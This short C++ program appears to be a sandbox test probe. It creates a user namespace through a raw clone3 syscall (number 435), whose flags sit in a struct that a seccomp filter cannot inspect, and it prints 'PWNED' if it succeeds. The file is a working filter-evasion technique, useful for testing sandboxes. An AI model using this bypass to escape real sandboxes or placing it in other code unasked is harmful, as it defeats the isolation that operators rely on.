// The same by another door, whose flags a filter cannot see.
#include <cstdint>
#include <cstdio>
#include <sched.h>
#include <csignal>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main() {
  uint64_t arguments[8] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD, 0, 0, 0};
  long child = syscall(435, arguments, sizeof arguments);
  if (child == 0) _exit(0);
  if (child > 0) {
    wait(nullptr);
    puts("PWNED");
  }
}
